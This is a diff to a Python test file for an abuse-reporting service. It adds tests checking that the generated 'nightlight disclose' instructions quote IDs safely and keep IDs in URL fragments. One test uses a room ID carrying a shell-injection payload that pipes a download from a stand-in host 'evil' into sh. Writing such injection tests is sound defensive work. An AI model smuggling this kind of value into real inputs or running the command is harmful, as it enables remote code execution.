@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
+from dataclasses import replace
 from typing import Any
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from starlette.testclient import TestClient
@@ -12,6 +15,7 @@ from starlette.testclient import TestClient
 from nightlight.hazmat import base64url
 from nightlight.model.case import Outcome, Policy
 from nightlight.model.report import Category
+from nightlight.web.api.status import StatusLinks, how_to_prove
 from tests.world import World
 
 
@@ -62,7 +66,23 @@ def test_unverified_reporter_is_told_how_to_prove_it(client: TestClient, world: 
     receipt = post(client, world, body(world, messages=[{"event_id": world.abusive}])).json()
     assert receipt["messages"][0]["verdict"] == "UNVERIFIABLE"
     status = client.get(receipt["status_url"].removeprefix("https://nightlight.test")).json()
-    assert "nightlight disclose" in status["how_to_prove"]
+    assert f"nightlight disclose --keys FILE --room '{world.room}' --event '{world.abusive}'" in status["how_to_prove"]
+
+
+def test_an_id_that_is_a_command_stays_one_word_of_ours(world: World) -> None:
+    report = replace(world.report(world.abusive, keys=False).report, room_id="!a'; curl evil | sh; '")
+    text = how_to_prove(report, StatusLinks("https://nightlight.test", bytes(32)))
+    command = text[text.index("nightlight disclose") : text.index(". Your keys stay")]
+    assert shlex.split(command)[5] == report.room_id
+
+
+def test_unverified_reporter_is_led_to_the_page_where_there_is_one(world: World) -> None:
+    report = world.report(world.abusive, keys=False).report
+    text = how_to_prove(report, StatusLinks("https://nightlight.test", bytes(32), disclosure_page=True))
+    assert "nightlight disclose" not in text
+    address = urlsplit(next(word for word in text.split() if word.startswith("https://")))
+    assert (address.path, address.query) == ("/report", "")  # ids stay behind the #: no proxy logs them
+    assert parse_qs(address.fragment) == {"room": [world.room], "event": [world.abusive]}
 
 
 def test_status_address_cannot_be_guessed_from_the_report_id(client: TestClient, world: World) -> None:
